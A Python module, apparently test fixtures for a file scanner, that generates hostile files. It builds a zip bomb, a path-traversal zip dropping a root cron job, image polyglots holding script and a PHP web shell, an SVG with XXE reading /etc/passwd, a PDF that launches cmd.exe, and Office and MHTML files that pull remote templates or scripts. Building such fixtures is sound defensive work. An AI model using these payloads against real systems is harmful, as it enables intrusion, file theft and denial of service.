"""Files that would do something if anybody opened them: archives, and what calls elsewhere."""

import io
import zipfile

from . import samples


def archive(**files):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files.items():
            made.writestr(name, content)
    return data.getvalue()


def zip_bomb():
    """Ten times ten times ten megabytes of nothing, in a few kilobytes."""
    inner = archive(**{"0": bytes(10 * 1024 * 1024)})
    for _level in range(2):
        inner = archive(**{f"{n}.zip": inner for n in range(10)})
    return inner


def picture_with_a_page():
    """A whole PNG that is an SVG with a script from its comment on, and again after its end."""
    comment = b"Comment\0" + samples.SVG_WITH_SCRIPT
    return samples.png_with((b"tEXt", comment)) + samples.SVG_WITH_SCRIPT


def zip_that_climbs():
    return archive(**{"../../../../etc/cron.d/job": b"* * * * * root id", "C:\\a.exe": b"MZ"})


def office_file(address):
    """With a template that lies elsewhere, as macros are smuggled in."""
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="a" Target="{address}/t.dotm" TargetMode="External"'
        ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate"/></Relationships>'
    )
    return archive(**{"word/_rels/settings.xml.rels": relation, "word/document.xml": "<w/>"})


def svg(address):
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{address}/a.css"?>'
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{address}/x"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
        f'<image l:href="{address}/a.png"/><use href="{address}/a.svg#a"/><text>&x;&f;</text>'
        f'<foreignObject><iframe src="{address}"/></foreignObject></svg>'
    ).encode()


def pdf(address):
    """Opens a program and two addresses as soon as it is opened, and on leaving."""
    link = f"({address})".encode()
    return samples.pdf(
        catalog=b"/OpenAction<</S/Launch/F(cmd.exe)/Next<</S/URI/URI%s>>>>"
        b"/AA<</WC<</S/SubmitForm/F<</FS/URL/F%s>>>>>>" % (link, link)
    )


def page_in_a_letter(address):
    """MHTML, which some programs open by its content."""
    text = f"<script src={address}/a.js></script>"
    return f"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n{text}".encode()


def picture_with_words():
    """A whole JPEG whose comment is a page and a program."""
    return samples.jpeg(comment=b"<script>alert(1)</script><?php system($_GET[0]); ?>")
